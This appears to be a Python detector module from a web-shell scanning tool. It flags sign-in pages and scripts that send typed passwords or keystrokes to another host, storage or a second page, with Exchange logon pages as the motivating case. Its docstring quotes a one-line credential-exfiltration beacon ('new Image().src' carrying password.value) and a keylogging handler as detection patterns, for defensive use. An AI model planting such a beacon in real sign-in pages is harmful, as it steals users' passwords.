"""A password that a visitor types is sent to another destination than the sign-in.

What it finds:
    In a page with a password field, and in each script that it loads: the typed value, or the keys pressed in the
    field, reach a request of a script, the address of a picture, a cookie, the browser's storage, a web socket, a
    connection to another browser (WebRTC), a host name that is looked up, or the address of the next page. The
    destination is another host, a static file, or a second page of the same site, besides the one that the form is
    submitted to. Also a form that a script sends to another host. A script that is examined alone, under any name, is
    searched for fields of the usual names; in the sign-in directories of Exchange it is read as a script of the sign-in
    page, whose form is known.

Why it matters:
    Intruders changed ``logon.aspx`` and ``flogon.js`` of Exchange servers, and read the passwords of all users who
    signed in, long after the vulnerability was patched. No other file needs to be planted.

Looks like:
    ``new Image().src = "//host/?" + password.value`` in the function behind the sign-in button; a handler of ``keyup``
    that posts each key.

Benign look-alikes:
    Sign-in forms that post to their own site, by script too; password meters, digests of a password for a breach
    service, single sign-on, reCAPTCHA; remember-me, which stores the name of the user; libraries that send a form by a
    frame, whose address is another member of the object with the values. A page that stores the
    password and enters it into its field again is unsafe, and no theft: medium outside of the sign-in directories of
    Exchange.

Blind spots:
    Fields that a script or a Razor expression creates, or that are no password fields by type or name; scripts of
    another host; a host whose name is in no constant; a function that is named as a digest and is none; what a public
    library does with a value, which is known by the names of its functions: released ones are not run.
    Outside of the sign-in directories of Exchange, a page of the same site to which a script sends the password in
    place of the form.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from webshellhunt.client_scripts.prefilter import PASSWORD
from webshellhunt.detectors.contract import Findings, claim, define_rule, detector
from webshellhunt.model.findings import FactValue, Finding
from webshellhunt.model.places import SIGN_IN_ROLES
from webshellhunt.model.rules import Confidence, Severity
from webshellhunt.views.sample import Layer, Sample

if TYPE_CHECKING:
    from webshellhunt.client_scripts.exfiltration import Exfiltration

RULE = define_rule(__name__, "WSH1009", "high", "medium", "T1056.003", "T1056.001", "T1185", acts_in_browser=True)
_WHERE = {
    "foreign": "to another host, {shown}",
    "sent": "to {shown}, a static file of this site",
    "own": "to {shown}, although the form of the page sends it too",
    "kept": "in the browser, where others can read it",
}


def _may_take_password(sample: Sample) -> bool:
    is_sign_in = sample.artifact.role in SIGN_IN_ROLES
    return (is_sign_in or sample.may_say(PASSWORD)) and sample.is_browsed


@detector(RULE, on=Layer, prefilter=_may_take_password)
def find(layer: Layer) -> Findings:
    """Report each data flow from a password field to another destination."""
    browsed = layer.browsed
    if browsed is None:
        return
    is_sign_in = layer.sample.artifact.role in SIGN_IN_ROLES
    for exfiltration in browsed.exfiltrations:
        if _is_theft(exfiltration, is_sign_in=is_sign_in) or _is_second_page(exfiltration, browsed.targets):
            yield _claim(layer, exfiltration, is_sign_in=is_sign_in, remembers=browsed.remembers)
    for form, address in browsed.foreign_forms if is_sign_in else ():
        message = f"the form of the sign-in page sends the password to another host, {address.shown}"
        evidence = layer.evidence(form.start, form.end)
        yield claim(RULE, message, evidence, confidence=Confidence.HIGH, facts={"destination": address.shown})


def _is_theft(exfiltration: Exfiltration, *, is_sign_in: bool) -> bool:
    """Return False for a sign-in by script, which sends the password to its own site."""
    from webshellhunt.analysis.browser.channels import Channel
    from webshellhunt.client_scripts.exfiltration import Destination

    if exfiltration.address.destination is Destination.OWN:
        is_beacon = exfiltration.channel is Channel.BEACON and not exfiltration.sends_form
        return is_sign_in or exfiltration.logs_keys or is_beacon
    return True


def _is_second_page(exfiltration: Exfiltration, targets: frozenset[str]) -> bool:
    """Return True if a script sends the password to a page of the site that is not the target of the form.

    The form is submitted too, so that the sign-in does not need this request.
    """
    from webshellhunt.analysis.browser.channels import Channel
    from webshellhunt.client_scripts.exfiltration import Destination, page_of

    if exfiltration.channel not in (Channel.REQUEST, Channel.BEACON) or exfiltration.trace is None:
        return False
    if exfiltration.address.destination is not Destination.OWN or exfiltration.sends_form:
        return False
    page = page_of(exfiltration.address.shown)
    return bool(targets) and "." in page and "…" not in page and page not in targets


def _claim(layer: Layer, exfiltration: Exfiltration, *, is_sign_in: bool, remembers: bool) -> Finding:
    from webshellhunt.client_scripts.exfiltration import Destination

    destination, shown = (
        exfiltration.address.destination,
        exfiltration.address.shown or "an address computed at run time",
    )
    stolen = "the keys that a visitor presses" if exfiltration.logs_keys else "the password that a visitor types"
    verb = "are" if exfiltration.logs_keys else "is"
    done = "kept" if destination is Destination.KEPT else "sent"
    where = _WHERE[destination].format(shown=shown)
    message = f"{stolen} {verb} {done} {where}, by {exfiltration.channel.value}: {exfiltration.words}"
    places = [exfiltration.place] if exfiltration.trace is None else [exfiltration.place, exfiltration.trace.place]
    facts: dict[str, FactValue] = {"destination": exfiltration.address.shown} if exfiltration.address.shown else {}
    is_certain = is_sign_in and destination is Destination.FOREIGN
    is_remembered = remembers and destination is Destination.KEPT
    if is_remembered:
        message += "; the page enters it into the password field again"
    is_weak = not is_sign_in and is_remembered
    return claim(
        RULE,
        message,
        *(layer.browsed_evidence(place) for place in places),
        severity=Severity.CRITICAL if is_certain else Severity.MEDIUM if is_weak else None,
        confidence=Confidence.HIGH if is_certain else None,
        facts=facts,
    )
